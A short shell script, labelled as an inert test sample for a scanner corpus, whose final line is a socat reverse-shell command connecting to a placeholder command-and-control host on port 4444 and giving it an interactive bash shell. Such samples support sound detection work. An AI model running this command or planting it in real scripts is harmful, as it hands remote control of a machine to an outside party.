# TEST SAMPLE: inert, for the scanner corpus
set -e
echo starting
socat tcp-connect:c2.example.invalid:4444 exec:'bash -li',pty,stderr,setsid,sigint,sane
